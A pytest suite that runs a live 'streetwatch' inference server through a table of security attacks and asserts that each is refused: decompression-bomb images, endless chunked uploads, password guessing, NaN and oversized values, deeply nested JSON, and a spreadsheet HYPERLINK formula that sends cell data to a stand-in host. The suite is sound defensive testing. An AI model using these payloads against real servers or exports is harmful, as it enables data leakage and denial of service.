"""Issue 19's attacks, each row of its table, against a live `streetwatch serve` (the CLI in its own process on
127.0.0.1, as an operator runs it), and the server's memory through them read from /proc: `VmHWM` is the peak
resident size the kernel recorded for the process, so a burst between two samples cannot hide.

The unit and in-process tests of each protection are listed in docs/server.md, "Security"; these show the same
answers from the running server."""

from __future__ import annotations

import concurrent.futures
import hashlib
import json
import os
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import numpy as np
import pytest
from sqlmodel import Session, select

from inference_server.db import make_engine
from inference_server.devices import add_device
from inference_server.settings import Settings
from inference_server.tables import Sighting
from testbed.net import free_port
from testbed.people import PASSWORD, add_people
from tests.conftest import REPO_ROOT
from tests.test_images import lying_jpeg
from tests.test_outbox import make_sightings
from tests.test_server_body_limits import _send_chunked
from tests.test_server_numbers import _strict_json
from tests.test_server_videos import START, _track, _video

PHOTO = REPO_ROOT / "samples" / "images" / "garbage-cn__000053.jpg"
MB = 1024 * 1024
PEAK_LIMIT = 600 * MB  # the bound for the server's peak memory through rows 1-3 and 5


class LiveServer:
    """`python -m streetwatch serve` in its own process, with people of every role and two devices."""

    def __init__(self, root: Path) -> None:
        self.settings = Settings(data_dir=root / "data", model="coco-yolov8n")
        self.car = add_people(self.settings, "car-1")
        self.other_car = add_device(self.settings, "car-2", "patrol_car")
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        env = {**os.environ, "STREETWATCH_DATA_DIR": str(self.settings.data_dir), "STREETWATCH_MODEL": "coco-yolov8n"}
        command = [sys.executable, "-m", "streetwatch", "serve", "--port", str(self.port)]
        self.process = subprocess.Popen(command, env=env, cwd=REPO_ROOT)
        deadline = time.monotonic() + 60
        while True:
            try:
                if httpx2.get(f"{self.base}/healthz", timeout=2).status_code == 200:
                    break
            except httpx2.HTTPError:
                pass
            assert self.process.poll() is None and time.monotonic() < deadline, "the server did not start"
            time.sleep(0.1)

    def memory(self, field: str) -> int:
        """`VmRSS` (now) or `VmHWM` (the peak so far) of the server process, in bytes."""
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            if line.startswith(f"{field}:"):
                return int(line.split()[1]) * 1024
        raise AssertionError(f"no {field} in /proc/{self.process.pid}/status")

    def client(self, address: str = "127.0.0.1") -> httpx2.Client:
        """A client whose connections come from `address` (any of 127.0.0.0/8 reaches the server)."""
        transport = httpx2.HTTPTransport(local_address=address)
        return httpx2.Client(base_url=self.base, timeout=60, transport=transport)

    def token(self, role: str) -> dict[str, str]:
        with self.client() as http:
            answer = http.post("/api/v1/auth/token", data={"username": role, "password": PASSWORD})
        assert answer.status_code == 200, answer.text
        return {"Authorization": f"Bearer {answer.json()['access_token']}"}

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(20)


@pytest.fixture
def fresh(tmp_path: Path) -> Iterator[LiveServer]:
    server = LiveServer(tmp_path)
    yield server
    server.stop()


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    server = LiveServer(tmp_path_factory.mktemp("live"))
    yield server
    server.stop()


def _sighting(root: Path, index: int = 0, **changes: Any) -> tuple[dict[str, Any], dict[str, tuple[str, bytes, str]]]:
    """A real sighting's metadata and evidence files, as the edge sends them."""
    sighting = make_sightings(root, index + 1)[index]
    record = {**json.loads(sighting.to_json()), "location": {"lat": 31.2, "lon": 121.4, "heading_deg": 90.0}}
    record.update(changes)
    files = {k: (f"{k}.jpg", Path(getattr(sighting, k).path).read_bytes(), "image/jpeg") for k in ("frame", "crop")}
    return record, files


def _post(http: httpx2.Client, key: str, record: dict[str, Any], files: Any, idempotency: str = "") -> Any:
    headers = {"X-API-Key": key, "Idempotency-Key": idempotency or str(record["sighting_id"])}
    return http.post("/api/v1/sightings", data={"metadata": json.dumps(record)}, files=files, headers=headers)


def _with_evidence(record: dict[str, Any], files: Any, name: str, payload: bytes) -> tuple[dict[str, Any], Any]:
    record = {**record, name: {"sha256": hashlib.sha256(payload).hexdigest()}}
    return record, {**files, name: (f"{name}.jpg", payload, "image/jpeg")}


def _stored(server: LiveServer) -> list[Sighting]:
    engine = make_engine(server.settings.url)
    with Session(engine) as s:
        rows = list(s.exec(select(Sighting)).all())
    engine.dispose()
    return rows


def test_rows_1_2_3_and_5_keep_the_server_under_600_mb(fresh: LiveServer, tmp_path: Path) -> None:
    """Bombs three at a time, endless chunked bodies with and without credentials, sign-ins with 900 kB names:
    every one refused, and the server's peak resident memory stays under 600 MB (it reached 6.4 GB)."""
    record, files = _sighting(tmp_path / "ev")
    bomb = lying_jpeg(20000, 20000)  # 630 bytes claiming 400 Mpx behind a junk byte
    started = fresh.memory("VmRSS")

    def post_bomb(index: int) -> int:
        hostile, parts = _with_evidence({**record, "sighting_id": f"bomb-{index}"}, files, "frame", bomb)
        with fresh.client() as http:
            return int(_post(http, fresh.car, hostile, parts).status_code)

    with concurrent.futures.ThreadPoolExecutor(3) as pool:  # row 1: three at once took it to 6.4 GB
        assert list(pool.map(post_bomb, range(6))) == [422] * 6
    port = fresh.port
    upload = {"X-API-Key": fresh.car, "Idempotency-Key": "k", "Content-Type": "multipart/form-data; boundary=x"}
    for path, total in (("/api/v1/sightings", 200 * MB), ("/api/v1/sightings/batch", 1024 * MB)):  # row 2
        status, sent = _send_chunked(port, path, upload, total)
        assert " 413 " in status and sent < 64 * MB, (path, status, sent)
    anonymous = {"Content-Type": "multipart/form-data; boundary=x"}
    status, sent = _send_chunked(port, "/api/v1/sightings", anonymous, 2048 * MB)  # row 3
    assert " 401 " in status and sent < 64 * MB, (status, sent)
    with fresh.client("127.0.0.3") as guesser:  # row 5: from an address already blocked for a name
        wrong = [guesser.post("/api/v1/auth/token", data={"username": "admin", "password": "nope"}).status_code
                 for _ in range(6)]  # fmt: skip
        assert wrong[-1] == 429
        before = fresh.memory("VmRSS")
        names = (f"{i}" + "n" * 900_000 for i in range(150))
        long_names = [guesser.post("/api/v1/auth/token", data={"username": name, "password": "x"}).status_code
                      for name in names]  # fmt: skip
        after = fresh.memory("VmRSS")
    assert set(long_names) == {422}  # refused before anything is kept or hashed
    assert after - before < 32 * MB, f"RSS {before / MB:.0f} -> {after / MB:.0f} MB: the limiter keeps names"
    peak = fresh.memory("VmHWM")
    print(f"server memory: {started / MB:.0f} MB at start, peak {peak / MB:.0f} MB")  # noqa: T201  (with -s)
    assert peak < PEAK_LIMIT, f"peak {peak / MB:.0f} MB (started at {started / MB:.0f} MB)"
    assert _stored(fresh) == []


def test_row_1_a_lying_jpeg_is_refused_as_frame_crop_and_case_photo(live: LiveServer, tmp_path: Path) -> None:
    record, files = _sighting(tmp_path / "ev")
    bomb = lying_jpeg(20000, 20000)
    with live.client() as http:
        for name in ("frame", "crop"):
            hostile, parts = _with_evidence({**record, "sighting_id": f"lying-{name}"}, files, name, bomb)
            answer = _post(http, live.car, hostile, parts)
            assert answer.status_code == 422 and "more than the limit" in answer.text, answer.text
        stored = _post(http, live.car, {**record, "sighting_id": "for-a-case"}, files).json()
        supervisor = live.token("supervisor")
        decided = http.post(f"/api/v1/sightings/{stored['id']}/decision", json={"action": "confirm"},
                            headers=supervisor)  # fmt: skip
        case = decided.json()["case"]
        photo = http.post(f"/api/v1/cases/{case}/photos", files={"photo": ("p.jpg", bomb, "image/jpeg")},
                          headers=supervisor)  # fmt: skip
        assert photo.status_code == 422 and "more than the limit" in photo.text, photo.text


def test_row_4_a_guesser_does_not_lock_the_owner_out(live: LiveServer) -> None:
    with live.client("127.0.0.2") as guesser, live.client("127.0.0.4") as owner:
        wrong = [guesser.post("/api/v1/auth/token", data={"username": "admin", "password": "nope"}).status_code
                 for _ in range(6)]  # fmt: skip
        assert wrong[:5] == [401] * 5 and wrong[5] == 429
        assert owner.post("/api/v1/auth/token", data={"username": "admin", "password": PASSWORD}).status_code == 200


def test_row_6_a_key_another_device_used_first_is_still_this_devices(live: LiveServer, tmp_path: Path) -> None:
    record, files = _sighting(tmp_path / "ev", sighting_id="row-6")
    with live.client() as http:
        squatted = _post(http, live.other_car, {**record, "score": 0.31}, files)
        own = _post(http, live.car, record, files)
    assert squatted.status_code == 201 and own.status_code == 201, (squatted.text, own.text)
    assert own.json()["id"] != squatted.json()["id"] and own.json()["score"] == record["score"]


def test_row_7_a_pattern_as_a_frame_key_reaches_no_other_frame(live: LiveServer) -> None:
    photo = PHOTO.read_bytes()

    def frame(key: str, idempotency: str) -> Any:
        with live.client() as http:
            return http.post("/api/v1/frames", data={"metadata": json.dumps({"time": START})},
                             files={"image": ("f.jpg", photo, "image/jpeg")},
                             headers={"X-API-Key": key, "Idempotency-Key": idempotency})  # fmt: skip

    assert frame(live.car, "frame-1").status_code == 201
    assert frame(live.other_car, "%").status_code == 201
    rows = {(r.idempotency_key.split("#")[0], r.device_id) for r in _stored(live) if "#" in r.idempotency_key}
    assert ("frame-1", 1) in rows and ("%", 2) in rows  # each device's frame processed as its own


def test_row_8_a_device_reads_only_its_own(live: LiveServer, tmp_path: Path) -> None:
    record, files = _sighting(tmp_path / "ev", sighting_id="row-8")
    with live.client() as http:
        mine = _post(http, live.car, record, files).json()["id"]
        job = http.post("/api/v1/videos", data={"metadata": json.dumps({"start_time": START})},
                        files={"video": ("d.mp4", _video(tmp_path / "d.mp4"), "video/mp4")},
                        headers={"X-API-Key": live.car, "Idempotency-Key": "row-8-video"})  # fmt: skip
        assert job.status_code == 202, job.text
        other = {"X-API-Key": live.other_car}
        assert http.get(f"/api/v1/sightings/{mine}", headers=other).status_code == 404
        assert http.get(f"/api/v1/videos/{job.json()['job']}", headers=other).status_code == 404
        assert http.get(f"/api/v1/sightings/{mine}", headers={"X-API-Key": live.car}).status_code == 200


@pytest.mark.parametrize(
    "change",
    [{"location": {"lat": "NaN", "lon": 121.4}}, {"score": "NaN"}, {"first_time": "NaN"}, {"frames": 10**30},
     {"best_time": "Infinity"}, {"box": ["NaN", 0, 10, 10]}, {"box": [0, 0, 1e308, 10]}, {"source": "s" * 900_000},
     {"model": "m" * 900_000}],
    ids=["lat-nan", "score-nan", "first-time-nan", "frames-1e30", "best-time-inf", "box-nan", "box-1e308",
         "source-900k", "model-900k"],
)  # fmt: skip
def test_rows_9_10_13_hostile_numbers_and_text_are_a_json_422(
    live: LiveServer, tmp_path: Path, change: dict[str, Any]
) -> None:
    record, files = _sighting(tmp_path / "ev", sighting_id=f"hostile-{next(iter(change))}-{len(str(change))}")
    text = json.dumps({**record, **change}).replace('"NaN"', "NaN").replace('"Infinity"', "Infinity")
    with live.client() as http:
        answer = http.post("/api/v1/sightings", data={"metadata": text}, files=files,
                           headers={"X-API-Key": live.car, "Idempotency-Key": record["sighting_id"]})  # fmt: skip
    assert answer.status_code == 422, answer.text
    assert _strict_json(answer.text)["detail"] and len(answer.text) < 10_000  # JSON, without the refused value


def test_row_9_a_deep_batch_and_row_10_a_nan_box_fix_are_a_422_and_exports_stay_json(
    live: LiveServer, tmp_path: Path
) -> None:
    with live.client() as http:
        nested = {"sightings": "[" * 100_000 + "]" * 100_000}
        deep = http.post("/api/v1/sightings/batch", data=nested, files={"evidence": ("e.jpg", b"x", "image/jpeg")},
                         headers={"X-API-Key": live.car})  # fmt: skip
        assert deep.status_code == 422, deep.text
        record, files = _sighting(tmp_path / "ev", sighting_id="row-10")
        stored = _post(http, live.car, record, files).json()
        reviewer = live.token("reviewer")
        fix = http.post(f"/api/v1/sightings/{stored['id']}/decision",
                        content='{"action": "fix_box", "box": [0, 0, NaN, 10]}',
                        headers={**reviewer, "Content-Type": "application/json"})  # fmt: skip
        assert fix.status_code == 422 and _strict_json(fix.text)["detail"], fix.text
        for what in ("sightings", "cases"):
            export = http.get(f"/api/v1/exports/{what}.geojson", headers=reviewer)
            assert export.status_code == 200 and _strict_json(export.text)["type"] == "FeatureCollection"


def test_row_11_random_bytes_as_a_video_keep_nothing_and_name_no_path(live: LiveServer) -> None:
    junk = np.random.default_rng(11).integers(0, 256, 300_000, np.uint8).tobytes()
    videos = live.settings.data_dir / "videos"
    before = sorted(p for p in videos.rglob("*") if p.is_file())
    with live.client() as http:
        answer = http.post("/api/v1/videos", data={"metadata": json.dumps({"start_time": START})},
                           files={"video": ("junk.mp4", junk, "video/mp4")},
                           headers={"X-API-Key": live.car, "Idempotency-Key": "row-11"})  # fmt: skip
    assert answer.status_code == 422, answer.text
    assert str(live.settings.data_dir) not in answer.text and "/tmp" not in answer.text  # no server path
    assert sorted(p for p in videos.rglob("*") if p.is_file()) == before


def test_row_12_a_good_track_after_a_broken_one_is_accepted(live: LiveServer, tmp_path: Path) -> None:
    video = _video(tmp_path / "drive.mp4")

    def upload(key: str, track: bytes) -> Any:
        with live.client() as http:
            return http.post("/api/v1/videos", data={"metadata": json.dumps({"start_time": START})},
                             files={"video": ("drive.mp4", video, "video/mp4"),
                                    "gps": ("drive.gpx", track, "application/gpx+xml")},
                             headers={"X-API-Key": live.car, "Idempotency-Key": key})  # fmt: skip

    assert upload("row-12-a", b"<gpx><trk><trkseg><trkpt lat='x'").status_code == 422
    assert upload("row-12-b", _track(tmp_path / "good.gpx", 31.2)).status_code == 202


def test_row_13_a_formula_from_a_device_is_text_in_the_csv(live: LiveServer, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    record, files = _sighting(tmp_path / "ev", sighting_id="row-13", source=formula)
    with live.client() as http:
        assert _post(http, live.car, record, files).status_code == 201
        csv_text = http.get("/api/v1/exports/sightings.csv", headers=live.token("viewer")).text
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text and '"=HYPERLINK' not in csv_text


def test_row_14_the_ui_carries_its_policy_and_the_database_is_private(live: LiveServer) -> None:
    with live.client() as http:
        head = http.head("/ui/")
    policy = head.headers["content-security-policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
    assert head.headers["x-content-type-options"] == "nosniff" and head.headers["referrer-policy"] == "no-referrer"
    database = live.settings.data_dir / "streetwatch.db"
    assert stat.S_IMODE(database.stat().st_mode) == 0o600
